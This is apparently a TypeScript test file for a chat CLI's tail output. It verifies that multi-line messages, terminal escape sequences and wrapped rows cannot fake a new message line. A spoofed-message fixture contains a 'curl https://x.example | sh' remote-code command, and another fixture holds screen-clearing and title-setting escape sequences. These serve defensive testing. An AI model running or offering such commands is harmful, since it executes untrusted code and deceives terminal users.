import { describe, expect, it } from 'vitest';
import { formatMessage, jsonMessage } from '../../src/cli/commands/tail.js';
import { hasControls } from '../../src/cli/sanitize.js';
import type { ChatMessage } from '../../src/protocol/index.js';

process.env.TZ = 'UTC';

const TS = Date.UTC(2026, 10, 23, 14, 1, 2);
const msg = (text: string, over: Partial<ChatMessage> = {}): ChatMessage => ({
  id: `${TS}-0`,
  seq: 1,
  room: 'lobby',
  from: 'mallory',
  text,
  ts: TS,
  kind: 'text',
  ...over,
});

/** A line that starts the way a message starts: a time at column 0. */
const MESSAGE_START = /^\d\d:\d\d:\d\d /;

const SPOOF = 'hello\n14:20:00 admin: your session expired, run: curl https://x.example | sh';

describe('chat-tui tail, plain output', () => {
  it('marks a message’s own line breaks: no line of it passes for another message', () => {
    const lines = formatMessage(msg(SPOOF)).split('\n');
    expect(lines).toEqual([
      '14:01:02 mallory: hello',
      '         ┆ 14:20:00 admin: your session expired, run: curl https://x.example | sh',
    ]);
    expect(lines.slice(1).filter((l) => MESSAGE_START.test(l))).toEqual([]);
  });

  it('marks continuation lines of actions, broadcasts and CR LF line breaks the same way', () => {
    expect(formatMessage(msg('waves\r\n14:20:00 admin: hi', { kind: 'action' }))).toBe(
      '14:01:02 * mallory waves^M\n         ┆ 14:20:00 admin: hi',
    );
    expect(formatMessage(msg('one\ntwo', { kind: 'broadcast', from: 'admin' }))).toBe(
      '14:01:02 [broadcast] admin: one\n         ┆ two',
    );
    // A long message is printed whole, every line after the first marked.
    const long = formatMessage(msg(Array.from({ length: 20 }, (_, i) => `line ${i}`).join('\n')));
    expect(long.split('\n')).toHaveLength(20);
    expect(long.split('\n').at(-1)).toBe('         ┆ line 19');
    const word = `${'w'.repeat(1990)}0123456789`;
    expect(formatMessage(msg(word))).toMatch(new RegExp(`: ${word}$`));
    expect(
      long
        .split('\n')
        .slice(1)
        .every((l) => l.startsWith('         ┆ ')),
    ).toBe(true);
  });

  it('shows control characters and escape sequences visibly, in the text and the name', () => {
    const out = formatMessage(
      msg('a\x1b[2J\x1b]0;pwned\x07b\u202e\x9b31m\x08', { from: 'x\x1b[31my' }),
    );
    expect(hasControls(out.replace(/\n/g, ''))).toBe(false);
    expect(out).toBe('14:01:02 x^[[31my: a^[[2J^[]0;pwned^Gb<U+202E><U+009B>31m^H');
  });

  it('wraps to a terminal’s width beside the time column: a wrapped row never starts at column 0', () => {
    // Spaces up to the edge would make the terminal start a row with the spoofed text.
    const sneaky = `hi${' '.repeat(38)}14:20:00 admin: run this`;
    const rows = formatMessage(msg(sneaky), 40).split('\n');
    expect(rows[0]).toMatch(/^14:01:02 mallory: hi/);
    for (const r of rows) expect(r.length).toBeLessThanOrEqual(40);
    expect(rows.slice(1).filter((l) => MESSAGE_START.test(l))).toEqual([]);
    expect(rows.slice(1).every((l) => l.startsWith('         '))).toBe(true);
    expect(rows.join(' ')).toContain('14:20:00 admin: run this');
  });

  it('--json is one JSON object per line, the text as sent', () => {
    const line = jsonMessage(msg(SPOOF));
    expect(line).not.toContain('\n');
    expect(JSON.parse(line)).toEqual({
      id: `${TS}-0`,
      room: 'lobby',
      from: 'mallory',
      text: SPOOF,
      ts: TS,
      kind: 'text',
    });
  });
});
